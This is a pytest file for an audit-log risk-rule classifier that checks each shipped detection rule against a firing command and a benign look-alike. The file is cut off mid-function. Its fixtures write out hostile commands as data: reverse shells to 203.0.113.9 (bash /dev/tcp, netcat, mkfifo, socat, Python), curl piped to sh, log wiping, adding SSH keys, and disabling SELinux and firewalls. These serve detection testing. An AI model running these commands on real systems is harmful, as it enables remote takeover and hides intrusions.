"""Risk rules: the rule language, and every shipped rule against a real command line that
fires it and a benign look-alike that does not.

Events are made the whole way: audit records written as the kernel writes them (or evtsys
lines as the log server stores them) are read by the event library, then classified.
"""

from __future__ import annotations

import fnmatch
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from ansible_collections.whotouched.server_audit.plugins.module_utils._events.assembler import (
    iter_events,
    iter_lines,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._events.risk import (
    RiskRuleError,
    at_least,
    classify,
    compile_risk_rules,
    event_facts,
)
from ansible_collections.whotouched.server_audit.plugins.module_utils._events.risk_rules import (
    SHIPPED_RISK_RULES,
)
from tests.support.audit_records import (
    evtsys,
    exec_records,
    file_records,
    through_default_filters,
)
from tests.support.corpus import corpus_audit_logs

RULES = compile_risk_rules(SHIPPED_RISK_RULES)


def event_of(lines):
    events = list(iter_events(lines))
    assert len(events) == 1, events
    return classify(events[0], RULES)


def run(*argv, **options):
    return exec_records(list(argv), **options)


def sh(script, **options):
    return exec_records(["/bin/sh", "-c", script], exe="/usr/bin/dash", **options)


def write(path, **options):
    return file_records(path, **options)


SUBJECT = ("Subject: Security ID: CORP\\admin Account Name: admin Account Domain: CORP "
           "Logon ID: 0x3E7 ")


def win(event_id, text, success=True):
    return [evtsys(event_id, text, success)]


GROUP_ADD = (SUBJECT + "Member: Security ID: CORP\\bob Account Name: CN=bob,OU=Staff,DC=corp,"
             "DC=example Group: Security ID: CORP\\%s Group Name: %s Group Domain: CORP "
             "Additional Information: Privileges: -")
TGS = ("A Kerberos service ticket was requested. Account Information: Account Name: bob@CORP "
       "Account Domain: CORP Logon GUID: {0} Service Information: Service Name: MSSQLSvc "
       "Service ID: CORP\\svc-sql Network Information: Client Address: ::ffff:198.51.100.7 "
       "Client Port: 49822 Additional Information: Ticket Options: 0x40810000 "
       "Ticket Encryption Type: %s Failure Code: 0x0 Transited Services: -")
TGT = ("A Kerberos authentication ticket (TGT) was requested. Account Information: "
       "Account Name: bob Supplied Realm Name: CORP User ID: CORP\\bob Service Information: "
       "Service Name: krbtgt Service ID: CORP\\krbtgt Network Information: Client Address: "
       "::ffff:198.51.100.7 Client Port: 49822 Additional Information: Ticket Options: "
       "0x40810010 Result Code: %s Ticket Encryption Type: 0x12 Pre-Authentication Type: 2")
NTLM = ("The computer attempted to validate the credentials for an account. Authentication "
        "Package: MICROSOFT_AUTHENTICATION_PACKAGE_V1_0 Logon Account: bob Source Workstation: "
        "WS07 Error Code: %s")
LOGON_FAILED = ("An account failed to log on. " + SUBJECT + "Logon Type: 3 Account For Which "
                "Logon Failed: Security ID: NULL SID Account Name: bob Account Domain: CORP "
                "Failure Information: Failure Reason: Unknown user name or bad password. "
                "Status: 0xC000006D Sub Status: 0xC000006A Network Information: Workstation "
                "Name: WS07 Source Network Address: 198.51.100.7 Source Port: 51234")
LOGON = LOGON_FAILED.replace("An account failed to log on.", "An account was successfully "
                             "logged on.").replace("Account For Which Logon Failed", "New Logon")


def module_loaded(name, argv, **options):
    """A kernel module loaded through finit_module, as the kernel records it: SYSCALL,
    KERN_MODULE and PROCTITLE, no PATH (the module arrives as an open file)."""
    lines = [line.replace("SYSCALL=openat", "SYSCALL=finit_module").replace(" items=2 ", " items=0 ")
             for line in write("/lib/modules", syscall=313, key="modules", argv=argv,
                               exe="/usr/bin/kmod", **options)
             if "type=PATH" not in line and "type=CWD" not in line]
    stamp = lines[0].split(" ")[1]
    lines.insert(1, "type=KERN_MODULE %s name=\"%s\"" % (stamp, name))
    return lines


def health(lost, suspended="no", overflow="no"):
    """A record of linux_audit's loss reporter, as the kernel writes it for the reporter."""
    return ["type=USER msg=audit(1700000000.123:4242): pid=726 uid=0 auid=4294967295 ses=4294967295 "
            "subj=unconfined msg='op=whotouched-audit-health lost=%d lost_total=%d since=1699999700.000 "
            "backlog=0 backlog_limit=8192 backlog_wait_time=60000 logging_suspended=%s plugin_overflow=%s "
            "res=success'" % (lost, lost + 40, suspended, overflow)]


# rule id: (a real command line or event that fires it, a benign look-alike that does not)
SHIPPED_RULE_CASES = {
    "events-lost": (health(12), health(0)),
    "audit-rules-deleted": (run("auditctl", "-D"), run("auditctl", "-l")),
    "logging-service-stopped": (run("systemctl", "stop", "auditd.service"),
                                run("systemctl", "restart", "rsyslog")),
    "logging-process-killed": (run("pkill", "-9", "auditd"), run("pkill", "-HUP", "nginx")),
    "audit-config-written": (write("/etc/audit/rules.d/audit.rules", key="audit-config"),
                             write("/etc/hosts", key="hosts")),
    "logs-wiped": (run("shred", "-u", "/var/log/auth.log"), run("rm", "-f", "/tmp/build.log")),
    "journal-vacuumed": (run("journalctl", "--vacuum-time=1s"), run("journalctl", "-u", "ssh")),
    "history-removed": (run("ln", "-sf", "/dev/null", "/root/.bash_history"),
                        run("cat", "/root/.bash_history")),
    "history-disabled": (exec_records(["bash", "-c", "unset HISTFILE; id"]),
                         exec_records(["bash", "-c", "export HISTSIZE=1000"])),
    "account-changed": (run("useradd", "-m", "-s", "/bin/bash", "backdoor"),
                        run("passwd", "-S", "alice")),
    "privileged-group-granted": (run("useradd", "-G", "sudo", "newuser"),
                                 run("useradd", "-G", "users", "newuser")),
    "identity-files-written": (write("/etc/shadow", key="shadow"),
                               write("/etc/shadow-backup.txt", key=None)),
    "sudoers-written": (write("/etc/sudoers.d/90-mallory", key="sudoers"),
                        write("/etc/sudo.conf", key=None)),
    "sudoers-edited": (run("visudo", "-f", "/etc/sudoers.d/ops"), run("visudo", "-c")),
    "root-shell-via-sudo": (run("sudo", "-i"), run("sudo", "systemctl", "restart", "nginx")),
    "sudo-used": (run("sudo", "apt-get", "update"), run("sudoedit", "/etc/motd")),
    "setuid-bit-set": (run("chmod", "u+s", "/tmp/.x"), run("chmod", "755", "deploy.sh")),
    "cron-written": (write("/var/spool/cron/crontabs/root", key="crontab"),
                     write("/etc/cronet.conf", key=None)),
    "crontab-edited": (run("crontab", "/tmp/jobs.txt"), run("crontab", "-l")),
    "authorized-keys-written": (write("/root/.ssh/authorized_keys", key="root-ssh"),
                                write("/root/.ssh/known_hosts", key="root-ssh")),
    "authorized-keys-appended": (
        sh("echo 'ssh-ed25519 AAAAC3Nza mallory' >> /root/.ssh/authorized_keys"),
        run("cat", "/root/.ssh/authorized_keys")),
    "ssh-config-written": (write("/etc/ssh/sshd_config", key="sshd-config"),
                           write("/etc/ssh/ssh_config", key=None)),
    "service-enabled": (run("systemctl", "enable", "--now", "updater.service"),
                        run("systemctl", "status", "updater.service")),
    "service-unit-written": (write("/etc/systemd/system/updater.service", key=None),
                             write("/etc/systemd/journald.conf", key=None)),
    "library-preload-written": (write("/etc/ld.so.preload", key=None),
                                write("/etc/ld.so.conf.d/x86_64-linux-gnu.conf", key=None)),
    "pam-config-written": (write("/etc/pam.d/sshd", key=None),
                           write("/etc/security/limits.conf", key=None)),
    "library-path-written": (write("/etc/ld.so.conf.d/zz-local.conf", key=None),
                             write("/etc/ld.so.cache", key=None)),
    "shell-profile-written": (write("/etc/profile.d/99-update.sh", key=None),
                              write("/etc/profile.dpkg-dist.bak", key=None)),
    "kernel-module-loaded": (module_loaded("rk", ["insmod", "/dev/shm/.x/rk.ko"]),
                             module_loaded("overlay", ["modprobe", "-q", "--", "overlay"],
                                           auid=4294967295, login_name="unset")),
    "kernel-module-loaded-by-the-system": (
        module_loaded("overlay", ["modprobe", "-q", "--", "overlay"], auid=4294967295,
                      login_name="unset"),
        run("modinfo", "overlay", exe="/usr/bin/kmod")),
    "download-piped-to-shell": (sh("curl -fsSL http://203.0.113.9/x.sh | sh"),
                                sh("curl -fsSL http://203.0.113.9/x.sh -o /root/x.sh")),
    "executed-from-temp": (run("/tmp/.ice/kworker", exe="/tmp/.ice/kworker"),
                           run("tmpreaper", "24h", "/tmp", exe="/usr/sbin/tmpreaper")),
    "reverse-shell-dev-tcp": (exec_records(["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]),
                              run("ls", "-l", "/dev/tty")),
    "reverse-shell-netcat": (run("nc", "-e", "/bin/sh", "203.0.113.9", "4444"),
                             run("nc", "-zv", "db01", "5432")),
    "reverse-shell-fifo": (
        sh("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"),
        run("mkfifo", "/run/app/control")),
    "reverse-shell-socat": (
        run("socat", "TCP:203.0.113.9:4444", "EXEC:/bin/bash,pty,stderr,setsid"),
        run("socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80")),
    "reverse-shell-interpreter": (
        run("python3", "-c", "import socket,os,pty;s=socket.socket();"
            "s.connect(('203.0.113.9',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
            "pty.spawn('/bin/sh')", exe="/usr/bin/python3.11"),
        run("python3", "-c", "import socket; print(socket.gethostname())",
            exe="/usr/bin/python3.11")),
    "selinux-enforcement-off": (run("setenforce", "0"), run("setenforce", "1")),
    "selinux-config-disabled": (
        run("sed", "-i", "s/^SELINUX=enforcing/SELINUX=disabled/", "/etc/selinux/config"),
        run("grep", "^SELINUX=", "/etc/selinux/config")),
    "firewall-service-stopped": (run("systemctl", "disable", "--now", "firewalld"),
                                 run("systemctl", "reload", "firewalld")),
    "firewall-ufw-disabled": (run("ufw", "disable"), run("ufw", "status", "verbose")),
    "firewall-rules-flushed": (run("iptables", "-F"), run("iptables", "-L", "-n")),
    "service-account-shell": (
        run("sh", "-c", "id", exe="/usr/bin/dash", uid=33, user_name="www-data",
            auid=4294967295, login_name="unset"),
        run("apache2", "-k", "graceful", exe="/usr/sbin/apache2", uid=33,
            user_name="www-data", auid=4294967295, login_name="unset")),
    "windows-account-created": (
        win(4720, "A user account was created. " + SUBJECT + "New Account: Security ID: "
            "CORP\\backdoor Account Name: backdoor Account Domain: CORP Attributes: SAM "
            "Account Name: backdoor Display Name: <value not set>"),
        win(4624, LOGON)),
    "windows-account-enabled": (
        win(4722, "A user account was enabled. " + SUBJECT + "Target Account: Security ID: "
            "CORP\\bob Account Name: bob Account Domain: CORP"),
        win(4624, LOGON)),
    "windows-password-reset": (
        win(4724, "An attempt was made to reset an account's password. " + SUBJECT +
            "Target Account: Security ID: CORP\\bob Account Name: bob Account Domain: CORP"),
        win(4723, "An attempt was made to change an account's password. " + SUBJECT +
            "Target Account: Security ID: CORP\\admin Account Name: admin Account Domain: "
            "CORP")),
    "windows-account-deleted": (
        win(4726, "A user account was deleted. " + SUBJECT + "Target Account: Security ID: "
            "CORP\\bob Account Name: bob Account Domain: CORP"),
        win(4624, LOGON)),
    "windows-account-changed": (
        win(4738, "A user account was changed. " + SUBJECT + "Target Account: Security ID: "
            "CORP\\bob Account Name: bob Account Domain: CORP"),
        win(4624, LOGON)),
    "windows-account-locked": (
        win(4740, "A user account was locked out. " + SUBJECT + "Account That Was Locked Out: "
            "Security ID: CORP\\bob Account Name: bob Additional Information: Caller Computer "
            "Name: WS07"),
        win(4767, "A user account was unlocked. " + SUBJECT + "Target Account: Security ID: "
            "CORP\\bob Account Name: bob Account Domain: CORP")),
    "windows-group-member-added": (
        win(4732, GROUP_ADD % ("Remote Desktop Users", "Remote Desktop Users")),
        win(4733, (GROUP_ADD % ("Remote Desktop Users", "Remote Desktop Users")).replace(
            "added", "removed"))),
    "windows-admin-group-member-added": (
        win(4728, GROUP_ADD % ("Domain Admins", "Domain Admins")),
        win(4728, GROUP_ADD % ("Printer Admins Helpdesk", "Printer Helpdesk"))),
    "windows-group-changed": (
        win(4727, "A security-enabled global group was created. " + SUBJECT + "New Group: "
            "Security ID: CORP\\ops Group Name: ops Group Domain: CORP"),
        win(4624, LOGON)),
    "windows-audit-log-cleared": (
        [evtsys(1102, "The audit log was cleared. Subject: Security ID: CORP\\admin "
                "Account Name: admin Domain Name: CORP Logon ID: 0x3E7").replace(
                    "Security-Auditing", "Eventlog")],
        win(1100, "The event logging service has shut down.")),
    "windows-audit-policy-changed": (
        win(4719, "System audit policy was changed. " + SUBJECT + "Audit Policy Change: "
            "Category: Account Logon Subcategory: Credential Validation Changes: Success "
            "removed"),
        win(4624, LOGON)),
    "windows-kerberos-rc4-ticket": (win(4769, TGS % "0x17"), win(4769, TGS % "0x12")),
    "windows-kerberos-preauth-failed": (
        win(4771, "Kerberos pre-authentication failed. Account Information: Security ID: "
            "CORP\\bob Account Name: bob Service Information: Service Name: krbtgt/CORP "
            "Network Information: Client Address: ::ffff:198.51.100.7 Client Port: 50213 "
            "Additional Information: Ticket Options: 0x40810010 Failure Code: 0x18 "
            "Pre-Authentication Type: 2", success=False),
        win(4768, TGT % "0x0")),
    "windows-kerberos-tgt-failed": (win(4768, TGT % "0x6", success=False),
                                    win(4768, TGT % "0x0")),
    "windows-credential-validation-failed": (win(4776, NTLM % "0xC000006A", success=False),
                                             win(4776, NTLM % "0x0")),
    "windows-logon-failed": (win(4625, LOGON_FAILED, success=False), win(4624, LOGON)),
}


def arrived(path, key, **options):
    """A watched file written, as the log server receives it through the client's default
    noise filters: no PATH record, so the event knows the watch's key and not the path."""
    lines = through_default_filters(write(path, key=key, **options))
    assert lines and not any("type=PATH" in line for line in lines)
    return lines


# The shipped rules on file watches, on what reaches the log server by default: the key of
# the linux_audit role's watch, the writer's command line (PROCTITLE), no path.
WATCH_KEY_CASES = {
    "cron-written": (arrived("/etc/cron.d/update-1f2e", "crontab", exe="/usr/bin/tee"),
                     arrived("/etc/hosts", "hosts")),
    "identity-files-written": (arrived("/etc/gshadow", "gshadow", exe="/usr/sbin/useradd"),
                               arrived("/etc/fstab", "fstab")),
    "sudoers-written": (arrived("/etc/sudoers.d/90-mallory", "sudoers"),
                        arrived("/etc/hosts.allow", "hosts-allow")),
    "authorized-keys-written": (arrived("/root/.ssh/authorized_keys", "root-ssh"),
                                arrived("/root/.ssh/known_hosts", "root-ssh")),
    "ssh-config-written": (arrived("/etc/ssh/sshd_config", "sshd-config"),
                           arrived("/etc/hosts.deny", "hosts-deny")),
    "audit-config-written": (arrived("/etc/audit/auditd.conf", "audit-config"),
                             arrived("/etc/fstab", "fstab")),
    "service-unit-written": (
        arrived("/etc/systemd/system/dbus-helper.service.d/override.conf", "systemd-unit"),
        arrived("/etc/hosts", "hosts")),
    "library-preload-written": (arrived("/etc/ld.so.preload", "ld-preload", exe="/usr/bin/tee"),
                                arrived("/etc/fstab", "fstab")),
    "pam-config-written": (arrived("/etc/pam.d/common-auth", "pam"),
                           arrived("/etc/hosts.deny", "hosts-deny")),
    "library-path-written": (arrived("/etc/ld.so.conf.d/zz-local.conf", "ld-conf"),
                             arrived("/etc/ld.so.preload", "ld-preload")),
    "shell-profile-written": (arrived("/etc/profile.d/99-update.sh", "shell-profile"),
                              arrived("/etc/fstab", "fstab")),
}


@pytest.mark.parametrize("rule_id", sorted(WATCH_KEY_CASES))
def test_file_watch_rule_fires_on_the_key_when_no_path_arrives(rule_id):
    firing, benign = WATCH_KEY_CASES[rule_id]
    fired = event_of(firing)
    assert (fired["kind"], fired["path"], fired["paths"]) == ("syscall", None, [])
    assert rule_id in fired["rules"], (fired["keys"], fired["argv"], fired["rules"])
    level = next(rule["level"] for rule in SHIPPED_RISK_RULES if rule["id"] == rule_id)
    assert fired["level"] == level
    quiet = event_of(benign)
    assert rule_id not in quiet["rules"], (quiet["keys"], quiet["argv"], quiet["rules"])


LINUX_AUDIT_DEFAULTS = Path(__file__).resolve().parents[5] / "roles" / "linux_audit" / \
    "defaults" / "main.yml"


def default_watches():
    """(path, key) of each watch of the linux_audit role's defaults."""
    defaults = yaml.safe_load(LINUX_AUDIT_DEFAULTS.read_text(encoding="utf-8"))
    watches = []
    for rule in defaults["linux_audit_watch_rules"]:
        words = rule.split()
        watches.append((words[words.index("-w") + 1], words[words.index("-k") + 1]))
    return watches


@pytest.mark.parametrize("watched, key", default_watches())
def test_a_watched_write_gets_the_same_level_with_or_without_its_path_records(watched, key):
    path = watched + "update" if watched.endswith("/") else watched
    with_path = event_of(write(path, key=key))
    without = event_of(arrived(path, key))
    assert with_path["kind"] == "file" and without["kind"] == "syscall"
    assert (without["level"], without["rules"]) == (with_path["level"], with_path["rules"])


def test_the_demo_cron_entry_is_high_as_it_arrives():
    # echo '*/5 * * * * root /var/tmp/.cache-update' | sudo tee /etc/cron.d/update-1f2e
    event = event_of(arrived("/etc/cron.d/update-1f2e", "crontab", exe="/usr/bin/tee"))
    assert (event["level"], event["rules"], event["login_user"]) == (
        "high", ["cron-written"], "alice")


def test_running_a_program_of_a_watched_directory_is_no_write():
    event = event_of(run("/etc/cron.daily/logrotate", exe="/etc/cron.daily/logrotate"))
    assert event["kind"] == "exec" and event["rules"] == []


PRIVILEGED_GROUP_GRANTS = [
    ("useradd", "-G", "sudo", "newuser"),
    ("useradd", "-m", "--groups", "users,wheel", "ops2"),
    ("useradd", "--groups=admin", "ops3"),
    ("useradd", "-mG", "root", "ops4"),
    ("useradd", "-g", "root", "ops5"),
    ("usermod", "-a", "-G", "docker,sudo", "bob"),
    ("gpasswd", "-a", "mallory", "sudo"),
    ("gpasswd", "--add", "mallory", "wheel"),
    ("gpasswd", "-M", "alice,mallory", "adm"),
    ("adduser", "mallory", "sudo"),
    ("adduser", "--ingroup", "sudo", "ops6"),
    ("addgroup", "mallory", "admin"),
]
PRIVILEGED_GROUP_LOOK_ALIKES = [
    ("useradd", "-G", "users", "newuser"),
    ("useradd", "-G", "sudoers-ro", "newuser"),
    ("useradd", "-m", "admin"),
    ("useradd", "-m", "-s", "/bin/bash", "support-1f2e"),
    ("usermod", "-s", "/bin/bash", "root"),
    ("gpasswd", "-d", "mallory", "sudo"),
    ("adduser", "admin"),
    ("adduser", "--home", "/srv/admin", "admin"),
    ("adduser", "--disabled-password", "--gecos", "", "admin"),
    ("addgroup", "admin"),
]


@pytest.mark.parametrize("argv", PRIVILEGED_GROUP_GRANTS, ids=" ".join)
def test_a_user_given_a_privileged_group_is_high(argv):
    event = event_of(run(*argv, exe="/usr/sbin/" + argv[0]))
    assert "privileged-group-granted" in event["rules"] and event["level"] == "high"


@pytest.mark.parametrize("argv", PRIVILEGED_GROUP_LOOK_ALIKES, ids=" ".join)
def test_an_account_change_without_a_privileged_group_stays_medium(argv):
    event = event_of(run(*argv, exe="/usr/sbin/" + argv[0]))
    assert event["rules"] == ["account-changed"] and event["level"] == "medium"


# --- A command is judged on its execution, not again on each file it writes

FIXTURES = Path(__file__).parent / "fixtures" / "audit"

# The demo's `sudo usermod -aG sudo support-1f2e` by mallory: usermod's execution, then its
# writes of the account files, each an event of the same process whose command line is
# rebuilt from the same PROCTITLE.
USERMOD = ["usermod", "-aG", "sudo", "support-1f2e"]
AS_USERMOD = dict(argv=USERMOD, exe="/usr/sbin/usermod", pid=5150, ppid=5149,
                  login_name="mallory")


def usermod_exec():
    return exec_records(USERMOD, exe="/usr/sbin/usermod", serial=50, pid=5150, ppid=5149,
                        login_name="mallory")


def usermod_opens_passwd():
    return file_records("/etc/passwd", key="passwd", serial=51, **AS_USERMOD)


def usermod_renames_group():
    return file_records("/etc/group", syscall=82, nametype="CREATE", key="group", serial=52,
                        **AS_USERMOD)


def sudo_user_cmd():
    """sudo's own record of the command it runs (kind user): the command as its argv."""
    return ["type=USER_CMD msg=audit(1700000000.100:49): pid=5148 uid=1001 auid=1001 ses=3 "
            "subj=unconfined msg='cwd=\"/home/mallory\" cmd=%s exe=\"/usr/bin/sudo\" "
            "terminal=pts/0 res=success'\x1dUID=\"mallory\" AUID=\"mallory\""
            % " ".join(USERMOD).encode("ascii").hex().upper()]


def windows_process_created():
    return win(4688, "A new process has been created. " + SUBJECT + "Process Information: "
               "New Process Name: C:\\Windows\\System32\\cmd.exe Process Command Line: "
               "cmd.exe /c whoami")


def classified(lines, rules=None):
    return [classify(event, RULES if rules is None else rules) for event in iter_events(lines)]


@pytest.mark.parametrize("arrives", [list, through_default_filters],
                         ids=["with its PATH records", "through the default noise filters"])
def test_a_command_is_judged_on_its_execution_not_on_each_file_it_writes(arrives):
    events = classified(arrives(usermod_exec() + usermod_opens_passwd()
                                + usermod_renames_group()))
    assert all(event["argv"] == USERMOD for event in events)
    written = "file" if arrives is list else "syscall"
    assert [(event["kind"], event["key"], event["level"], event["rules"]) for event in events] == [
        ("exec", "exec", "high", ["privileged-group-granted", "account-changed"]),
        (written, "passwd", "medium", ["identity-files-written"]),
        (written, "group", "medium", ["identity-files-written"]),
    ]


@pytest.mark.parametrize("arrives", [list, through_default_filters],
                         ids=["raw", "through the default noise filters"])
def test_the_kernels_records_of_usermod_give_one_high_event(arrives):
    """`usermod -aG sudo wtdup` as a real kernel recorded it (Linux 6.18, auditd 3.0.9,
    ENRICHED; execve audited with key exec, the four account files watched with the
    linux_audit role's keys): the execution, usermod's opening of each account file, its own
    USER_CHAUTHTOK records, and its renames of the new group files into place."""
    lines = (FIXTURES / "usermod_sudo.log").read_text(encoding="utf-8").splitlines()
    events = classified(arrives(lines))
    written = "file" if arrives is list else "syscall"
    assert [(event["kind"], event["syscall"] or event["record_types"][0], event["key"],
             event["rules"]) for event in events] == [
        ("exec", "execve", "exec", ["privileged-group-granted", "account-changed"]),
    ] + [(written, "openat", key, ["identity-files-written"])
         for key in ("passwd", "shadow", "group", "gshadow")] + [
        ("user", "USER_CHAUTHTOK", None, []),
        ("user", "USER_CHAUTHTOK", None, []),
    ] + [(written, "rename", key, ["identity-files-written"]) for key in ("group", "gshadow")]
    assert {tuple(event["argv"]) for event in events if event["kind"] != "user"} == {
        ("usermod", "-aG", "sudo", "wtdup")}
    assert [event["level"] for event in events].count("high") == 1


EVENTS = {
    "usermod's execution": usermod_exec,
    "usermod's write of /etc/passwd, arrived without its path": lambda: through_default_filters(
        usermod_opens_passwd()),
    "usermod's rename of /etc/group, with its path": usermod_renames_group,
    "sudo's USER_CMD record of usermod": sudo_user_cmd,
    "a Windows process creation": windows_process_created,
}
EXEC, WRITE, RENAME, SUDO_CMD, WINDOWS = EVENTS

# (match, unless, the events it fires on): which events a rule judges
JUDGED = [
    ({"program": ["usermod"]}, None, {EXEC}),
    ({"args": "-aG sudo"}, None, {EXEC}),
    ({"command": "^usermod "}, None, {EXEC}),
    ({"exe": "^/usr/sbin/usermod$"}, None, {EXEC}),
    # what a watched file is known by: the writes of the file, never the execution
    ({"key": ["passwd", "group"]}, None, {WRITE, RENAME}),
    ({"path": "^/etc/group$"}, None, {RENAME}),
    # the file and its writer: the command line says who wrote it
    ({"key": ["passwd"], "program": ["usermod"]}, None, {WRITE}),
    ({"operation": ["rename"], "args": "-aG"}, None, {RENAME}),
    # kind chooses the events itself, sudo's records included
    ({"kind": ["syscall"], "program": ["usermod"]}, None, {WRITE}),
    ({"kind": ["exec", "user"], "program": ["usermod"]}, None, {EXEC, SUDO_CMD}),
    # each way through any is judged on its own, with the conditions around it
    ({"any": [{"key": ["passwd"]}, {"program": ["usermod"]}]}, None, {EXEC, WRITE}),
    ({"program": ["usermod"], "any": [{"key": ["passwd"]}, {"args": "sudo"}]}, None,
     {EXEC, WRITE}),
    ({"kind": ["file", "syscall"], "any": [{"path": "^/etc/shadow$"}, {"command": "usermod"}]},
     None, {WRITE, RENAME}),
    # who acted says nothing of a command: every event of the person
    ({"login_user": ["mallory"]}, None, {EXEC, WRITE, RENAME, SUDO_CMD}),
    # unless keeps a rule quiet on any event it holds for
    ({"key": ["passwd", "group"]}, {"program": ["usermod"]}, set()),
    ({"key": ["passwd", "group"]}, {"program": ["vipw"]}, {WRITE, RENAME}),
    # Windows events are judged as they are
    ({"program": ["cmd.exe"], "args": "whoami"}, None, {WINDOWS}),
]


@pytest.mark.parametrize("match, unless, fires_on", JUDGED,
                         ids=[repr(match) + (" unless %r" % unless if unless else "")
                              for match, unless, _fires in JUDGED])
def test_which_events_a_rule_judges(match, unless, fires_on):
    spec = {"id": "r", "level": "high", "reason": "r", "match": match}
    if unless:
        spec["unless"] = unless
    rules = compile_risk_rules([spec])
    fired = set()
    for name, records in EVENTS.items():
        events = classified(records(), rules)
        assert len(events) == 1, (name, events)
        if events[0]["rules"] == ["r"]:
            fired.add(name)
    assert fired == fires_on


def test_every_shipped_rule_has_a_case():
    shipped = {rule["id"] for rule in SHIPPED_RISK_RULES}
    assert shipped == set(SHIPPED_RULE_CASES)


@pytest.mark.parametrize("rule_id", sorted(SHIPPED_RULE_CASES))
def test_shipped_rule_fires_on_the_real_thing_and_not_on_its_look_alike(rule_id):
    firing, benign = SHIPPED_RULE_CASES[rule_id]
    fired = event_of(firing)
    assert rule_id in fired["rules"], (fired["argv"], fired.get("path"), fired["rules"])
    level = next(rule["level"] for rule in SHIPPED_RISK_RULES if rule["id"] == rule_id)
    assert at_least(fired["level"], level)
    quiet = event_of(benign)
    assert rule_id not in quiet["rules"], (quiet["argv"], quiet.get("path"), quiet["rules"])


def test_a_module_the_system_loads_is_low_and_one_loaded_in_a_session_high():
    assert event_of(module_loaded("overlay", ["modprobe", "-q", "--", "overlay"],
                                  auid=4294967295, login_name="unset"))["level"] == "low"
    assert event_of(module_loaded("rk", ["insmod", "rk.ko"]))["level"] == "high"


def test_highest_level_wins_and_every_reason_is_kept():
    event = event_of(run("sudo", "-i"))
    assert event["level"] == "medium"
    assert event["rules"] == ["root-shell-via-sudo", "sudo-used"]
    assert len(event["reasons"]) == 2


def test_any_needs_one_of_its_blocks_and_each_block_whole():
    rules = compile_risk_rules([{"id": "r", "level": "high", "reason": "r", "match": {
        "login_user": ["alice"],
        "any": [{"program": ["rm"], "args": "/etc/"}, {"program": ["shred"]}]}}])
    assert classify(next(iter_events(run("rm", "/etc/x"))), rules)["rules"] == ["r"]
    assert classify(next(iter_events(run("shred", "x"))), rules)["rules"] == ["r"]
    assert classify(next(iter_events(run("rm", "/tmp/x"))), rules)["rules"] == []
    assert classify(next(iter_events(run("shred", "x", login_name="bob"))), rules)["rules"] == []


def test_an_event_no_rule_matches_is_info():
    event = event_of(run("ls", "-la", "/srv"))
    assert (event["level"], event["reasons"], event["rules"]) == ("info", [], [])


def test_a_user_rule_replaces_the_shipped_rule_with_its_id():
    rules = compile_risk_rules(SHIPPED_RISK_RULES + [{
        "id": "sudo-used", "level": "info", "reason": "sudo is how we work here",
        "match": {"program": ["sudo"]}}])
    event = classify(next(iter_events(run("sudo", "apt-get", "update"))), rules)
    assert event["level"] == "info" and event["rules"] == ["sudo-used"]


def test_unless_keeps_a_rule_quiet():
    rules = compile_risk_rules([{"id": "deploy", "level": "high", "reason": "r",
                                 "match": {"login_user": ["alice"]},
                                 "unless": {"program": ["git"]}}])
    assert classify(next(iter_events(run("git", "pull"))), rules)["rules"] == []
    assert classify(next(iter_events(run("rm", "x"))), rules)["rules"] == ["deploy"]


@pytest.mark.parametrize("spec, message", [
    ({"level": "high", "reason": "r", "match": {"key": ["x"]}}, "needs an id"),
    ({"id": "a", "level": "severe", "reason": "r", "match": {"key": ["x"]}}, "level must be"),
    ({"id": "a", "level": "high", "match": {"key": ["x"]}}, "reason is required"),
    ({"id": "a", "level": "high", "reason": "r", "match": {}}, "non-empty mapping"),
    ({"id": "a", "level": "high", "reason": "r", "match": {"colour": "red"}},
     "unknown condition colour"),
    ({"id": "a", "level": "high", "reason": "r", "match": {"args": "(unclosed"}},
     "not a valid regular expression"),
    ({"id": "a", "level": "high", "reason": "r", "match": {"event_id": ["x"]}},
     "event_id must be numbers"),
    ({"id": "a", "level": "high", "reason": "r", "match": {"success": "yes"}},
     "success must be true or false"),
    ({"id": "a", "level": "high", "reason": "r", "match": {"key": "x"}, "extra": 1},
     "unknown key extra"),
    ({"id": "a", "level": "high", "reason": "r", "match": {"any": {"key": "x"}}},
     "any must be a non-empty list"),
    ({"id": "a", "level": "high", "reason": "r", "match": {"any": []}},
     "any must be a non-empty list"),
    ({"id": "a", "level": "high", "reason": "r", "match": {"any": [{"colour": "red"}]}},
     "unknown condition colour"),
])
def test_bad_rules_are_refused_with_the_rule_named(spec, message):
    with pytest.raises(RiskRuleError, match=message):
        compile_risk_rules([spec])


# ------------------------------------------------------------------ the rules' index
# classify() judges only the rules that can fire on an event (by program, key and kind);
# judged by every rule (a plain list), each event must come out the same.

PROGRAMS = ["nc", "python3", "python", "sudo", "bash", "ls", "usermod"]
GLOBS = PROGRAMS + ["python*", "n?", "[bs]*", "*"]
KEYS = ["exec", "passwd", "modules"]
KINDS = ["exec", "file", "syscall", "user", "windows", "loss"]


def _block(draw, depth):
    block = {}
    for name, values in (("program", GLOBS), ("key", KEYS), ("kind", KINDS),
                         ("user", ["root", "www-*", "bob"]), ("login_user", ["alice", "a*"]),
                         ("operation", ["write", "delete"])):
        if draw(st.integers(0, 2 if name in ("program", "key", "kind") else 5)) == 0:
            block[name] = draw(st.lists(st.sampled_from(values), min_size=1, max_size=3))
    for name in ("args", "command", "path", "exe"):
        if draw(st.integers(0, 3)) == 0:
            # with groups and references to them, which mean something else in another pattern
            block[name] = draw(st.sampled_from(["-e", "^/", "passwd", "x$", "/nc", "(pa)ss",
                                                "(.)\\1", "(?P<s>s)(?P=s)", "(?i)PASS",
                                                "(?P<p>p)"]))
    if draw(st.integers(0, 6)) == 0:
        block["success"] = draw(st.booleans())
    if draw(st.integers(0, 6)) == 0:
        block["field"] = {"cwd": draw(st.sampled_from(["^/root", "tmp"]))}
    if draw(st.integers(0, 4)) == 0:
        block["event_id"] = draw(st.lists(st.sampled_from([4720, 4732]), min_size=1, max_size=2))
    if depth < 2 and draw(st.integers(0, 2)) == 0:
        block["any"] = [_block(draw, depth + 1) for _block_number in range(draw(st.integers(1, 3)))]
    return block or {"kind": [draw(st.sampled_from(KINDS))]}


@st.composite
def rule_specs(draw):
    specs = []
    for number in range(draw(st.integers(1, 8))):
